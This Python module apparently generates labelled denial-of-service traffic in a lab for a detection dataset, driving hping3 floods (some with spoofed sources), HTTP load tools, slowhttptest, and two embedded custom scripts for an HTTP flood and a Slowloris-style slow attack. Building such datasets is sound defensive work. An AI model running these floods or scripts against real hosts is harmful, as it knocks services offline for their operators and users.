"""Floods and slow attacks: hping3, HTTP load tools turned on a victim, slowhttptest, and scripts of our own."""

from ..plan import Activity
from ..truth import Match
from . import between

FLAGS = {"syn": "-S", "ack": "-A", "fin": "-F", "rst": "-R", "synack": "-SA", "pushack": "-PA"}

ODD_REQUESTS_MAX = 3000  # over all workers of the script below: a flood that a capture can hold
ODD_HTTP = """
import http.client, random, sys, threading, time
host, port, seconds, workers, keep, gap, seed = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]), sys.argv[7]
until, left = time.monotonic() + seconds, [REQUESTS_MAX]
def work(number):
    rng = random.Random(f"{seed}{number}")
    connection, used = None, 0
    while time.monotonic() < until and left[0] > 0:
        left[0] -= 1
        try:
            connection = connection or http.client.HTTPConnection(host, port, timeout=4)
            connection.request(rng.choice(["GET", "GET", "GET", "HEAD", "POST"]), f"/?{rng.random()}", headers={"User-Agent": f"agent/{rng.randint(1, 99)}",
                               "X-Pad": "p" * rng.randint(0, 400)})
            connection.getresponse().read()
            used += 1
        except (OSError, http.client.HTTPException):
            used = keep
        if used >= keep:
            connection and connection.close()
            connection, used = None, 0
        time.sleep(gap * rng.random())
threads = [threading.Thread(target=work, args=(n,)) for n in range(workers)]
[t.start() for t in threads]; [t.join() for t in threads]
"""
ODD_SLOW = """
import random, socket, sys, time
host, port, seconds, count, low, high, mode, seed = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6]), sys.argv[7], sys.argv[8]
rng, until, open_ends = random.Random(seed), time.monotonic() + seconds, []
def fresh():
    end = socket.create_connection((host, port), timeout=4)
    end.send(b"POST /put/x HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 9000\\r\\n\\r\\n" if mode == "body" else b"GET /?%d HTTP/1.1\\r\\nHost: x\\r\\n" % rng.randint(0, 9999))
    return [end, time.monotonic() + rng.uniform(low, high)]
while time.monotonic() < until:
    if len(open_ends) < count:
        try: open_ends.append(fresh())
        except OSError: time.sleep(0.2)
    for entry in list(open_ends):
        if time.monotonic() >= entry[1]:
            try:
                entry[0].send(b"x" if mode == "body" else b"X-%d: %d\\r\\n" % (rng.randint(1, 999), rng.randint(1, 999)))
                entry[1] = time.monotonic() + rng.uniform(low, high)
            except OSError:
                open_ends.remove(entry)
    time.sleep(0.02)
"""


def dos(plan, name, tool, attacker, victim, port, body, protocol="tcp", linger_s=3.0):
    """An attack that keeps its own address."""
    return Activity(f"{name} {attacker}->{victim}", tool, "dos", attacker, [between(plan, attacker, victim, port, protocol)], body, linger_s=linger_s)


def spoofed(plan, attacker, victim, port, kind, every_us, count, *flags):
    """hping3 with a random source for each packet: the row names the victim alone, the lab's own hosts are spared."""
    protocol = {"udp": "udp", "icmp": "icmp"}.get(kind, "tcp")
    mode = {"udp": ["--udp"], "icmp": ["--icmp"]}.get(kind) or [FLAGS[kind]]
    where = [] if kind == "icmp" else ["-p", port]

    def body(stage):
        stage.run("hping3", "-q", "-n", *mode, *where, "--rand-source", "-i", f"u{every_us}", "-c", count, *flags, stage.ip(victim))
    number = "" if kind == "icmp" else str(port).lstrip("+")
    # Closed UDP ports answer by ICMP: such a row names neither port nor protocol.
    protocol = "" if kind == "udp" else protocol
    match = Match(dst=plan.ip(victim), dst_port="" if kind == "udp" else number, protocol=protocol)
    spare = [Match(src=host.nat or host.ip, dst=plan.ip(victim), protocol=protocol) for host in plan.hosts if host.name != victim and host.name not in plan.attackers]
    return Activity(f"hping3 spoofed {kind} {attacker}->{victim}:{number}", "hping3", "dos", attacker, [match], body,
                    linger_s=answers_s(plan.host(victim)), spare=spare)


def answers_s(victim):
    """How long a victim repeats its SYN-ACKs to sources that never answer: 1, 2, 4, ... seconds, as often as its sysctl says."""
    return float(2 ** (int(victim.sysctl.get("net.ipv4.tcp_synack_retries", 5)) + 1))


def plain(plan, attacker, victim, port, kind, every_us, count, *flags):
    """hping3 from its own address, a new source port for each packet (or one kept, by `-k`)."""
    protocol = {"udp": "udp", "icmp": "icmp"}.get(kind, "tcp")
    mode = {"udp": ["--udp"], "icmp": ["--icmp"]}.get(kind) or [FLAGS[kind]]
    where = [] if kind == "icmp" else ["-p", port]

    def body(stage):
        stage.run("hping3", "-q", "-n", *mode, *where, "-i", f"u{every_us}", "-c", count, *flags, stage.ip(victim))
    # `-p +N` counts through the ports, and closed ports answer by ICMP: the row then names neither port nor protocol.
    return dos(plan, f"hping3 {kind} {' '.join(map(str, flags))}", "hping3", attacker, victim,
               "" if protocol != "tcp" or str(port).startswith("+") else port, body, "" if protocol == "udp" else protocol)


def ab(plan, attacker, victim, port, count, at_once, keep=False, path="/index.html"):
    """ApacheBench."""
    scheme = "https" if port == 443 else "http"

    def body(stage):
        stage.run("ab", "-q", "-r", "-s", "5", "-n", count, "-c", at_once, *(["-k"] if keep else []), f"{scheme}://{stage.ip(victim)}:{port}{path}")
    return dos(plan, f"ab {'kept' if keep else 'fresh'} x{at_once}", "ab", attacker, victim, port, body)


def wrk(plan, attacker, victim, port, seconds, at_once, close=True, path="/index.html"):
    """wrk: as fast as the server answers, so bounded by seconds and by few connections."""
    scheme = "https" if port == 443 else "http"

    def body(stage):
        stage.run("wrk", "-t", "1", "-c", at_once, "-d", f"{seconds}s", *(["-H", "Connection: close"] if close else []),
                  f"{scheme}://{stage.ip(victim)}:{port}{path}")
    return dos(plan, f"wrk {'fresh' if close else 'kept'} x{at_once}", "wrk", attacker, victim, port, body)


def siege(plan, attacker, victim, port, count, at_once):
    """siege without pauses, about `count` requests in all."""
    def body(stage):
        stage.run("siege", "-q", "-b", "-c", at_once, "-r", max(1, count // at_once), f"http://{stage.ip(victim)}:{port}/",
                  env={"HOME": stage.scratch})
    return dos(plan, f"siege x{at_once}", "siege", attacker, victim, port, body)


def h2load(plan, attacker, victim, count, at_once, streams):
    """h2load: many requests over few HTTP/2 connections."""
    def body(stage):
        stage.run("h2load", "-n", count, "-c", at_once, "-m", streams, f"https://{stage.ip(victim)}/index.html")
    return dos(plan, f"h2load x{at_once}", "h2load", attacker, victim, 443, body)


def odd_http(plan, attacker, victim, port, seconds, workers, keep, gap):
    """A script that floods with varied requests: kept for some requests, cache-busting, other verbs."""
    def body(stage):
        stage.run("python3", "-c", ODD_HTTP.replace("REQUESTS_MAX", str(ODD_REQUESTS_MAX)), stage.ip(victim), port, seconds, workers, keep, gap, stage.rng.random())
    return dos(plan, f"script flood x{workers} keep {keep}", "script", attacker, victim, port, body)


def slow(plan, attacker, victim, port, mode, seconds, connections, rate, every):
    """slowhttptest: `-H` headers that never end, `-B` a body that drips, `-X` an answer never read, `-R` range headers."""
    extra = {"-X": ["-w", "10", "-y", "200", "-n", "2", "-z", "32", "-k", "3"], "-B": ["-s", "8192", "-x", "20"],
             "-H": ["-x", "24"], "-R": []}[mode]
    scheme = "https" if port == 443 else "http"

    def body(stage):
        stage.run("slowhttptest", "-c", connections, mode, "-i", every, "-r", rate, "-l", seconds, "-p", "3", *extra,
                  "-u", f"{scheme}://{stage.ip(victim)}:{port}/index.html")
    return dos(plan, f"slowhttptest {mode} {connections} at {rate}/s", "slowhttptest", attacker, victim, port, body, linger_s=5.0)


def odd_slow(plan, attacker, victim, port, seconds, count, low, high, mode):
    """A script that keeps connections open with crumbs at uneven times."""
    def body(stage):
        stage.run("python3", "-c", ODD_SLOW, stage.ip(victim), port, seconds, count, low, high, mode, stage.rng.random())
    return dos(plan, f"script slow {mode} {count}", "script", attacker, victim, port, body, linger_s=5.0)


def draw_volume(rng, plan, attacker, victim, port, packets):
    """A random packet flood of about `packets` packets, and the seconds it may take."""
    every = rng.choice([250, 400, 800, 2000, 5000, 12000])
    count = min(packets, int(25e6 / every))
    size = ["-d", rng.choice([1, 18, 64, 120, 512, 1200])]
    kind = rng.choice(["syn", "syn", "syn", "ack", "rst", "fin", "synack", "pushack"])
    data = size if rng.random() < 0.25 else []
    return rng.choice([
        lambda: spoofed(plan, attacker, victim, port, "syn", every, count, *data),
        lambda: spoofed(plan, attacker, victim, port, kind, every, count, *data),
        lambda: plain(plan, attacker, victim, port, "syn", every, count, *data),
        lambda: plain(plan, attacker, victim, port, kind, every, count, *data),
        lambda: plain(plan, attacker, victim, "++1", "syn", every, count, *data),
        lambda: plain(plan, attacker, victim, port, "syn", every, count // 2, "-s", rng.randint(1024, 60000), "-k"),
        lambda: plain(plan, attacker, victim, rng.choice([53, 123, 4000, 9999]), "udp", every, count, *size),
        lambda: plain(plan, attacker, victim, "++1", "udp", every, count, *size),
        lambda: plain(plan, attacker, victim, rng.choice([53, 4000, 33000]), "udp", every, count, *size, "-s", "5555", "-k"),
        lambda: spoofed(plan, attacker, victim, rng.choice([53, 4000, 9999]), "udp", every, count, *size),
        lambda: plain(plan, attacker, victim, "", "icmp", every, count, *size),
        lambda: spoofed(plan, attacker, victim, "", "icmp", every, count, *size),
    ])()


def draw_http(rng, plan, attacker, victim):
    """A random HTTP flood and the seconds it may take."""
    port, at_once = rng.choice([80, 80, 8080, 443]), rng.choice([1, 4, 10, 30, 80])
    seconds = rng.choice([3, 6, 12])
    path = rng.choice(["/index.html", "/", "/healthz", "/api/v1/items/1.json", "/missing", "/wait/0.2"])
    return rng.choice([
        lambda: (20, ab(plan, attacker, victim, port, rng.choice([300, 800, 1500]), at_once, False, path)),
        lambda: (20, ab(plan, attacker, victim, port, rng.choice([2000, 5000]), at_once, True, path)),
        lambda: (8, wrk(plan, attacker, victim, port, 2, min(at_once, 10), True, path)),
        lambda: (8, wrk(plan, attacker, victim, port, 2, at_once, False, path)),
        lambda: (20, siege(plan, attacker, victim, 80, rng.choice([300, 1000, 2000]), min(at_once, 30))),
        lambda: (15, h2load(plan, attacker, victim, rng.choice([1000, 4000]), min(at_once, 10), rng.choice([1, 10, 50]))),
        lambda: (seconds * 2 + 4, odd_http(plan, attacker, victim, rng.choice([80, 8080]), seconds * 2, min(at_once, 30),
                                           rng.choice([1, 3, 10, 100]), rng.choice([0.01, 0.05, 0.4]))),
        lambda: (seconds * 3 + 4, odd_http(plan, attacker, victim, rng.choice([80, 8080]), seconds * 3, min(at_once, 30),
                                           rng.choice([1, 2, 20]), rng.choice([0.05, 0.4, 1.5]))),
    ])()


def draw_slow(rng, plan, attacker, victim, seconds):
    """A random slow attack lasting `seconds`."""
    port, count, rate = rng.choice([80, 80, 8080]), rng.choice([20, 60, 150, 300]), rng.choice([5, 20, 60])
    every = rng.choice([1, 3, 5, 10])
    return rng.choice([
        lambda: slow(plan, attacker, victim, port, rng.choice(["-H", "-B", "-X"]), seconds, count, rate, every),
        lambda: slow(plan, attacker, victim, rng.choice([80, 443]), rng.choice(["-H", "-B"]), seconds, count, rate, every),
        lambda: odd_slow(plan, attacker, victim, port, seconds, count, every * 0.4, every * 1.8, rng.choice(["header", "body"])),
    ])()
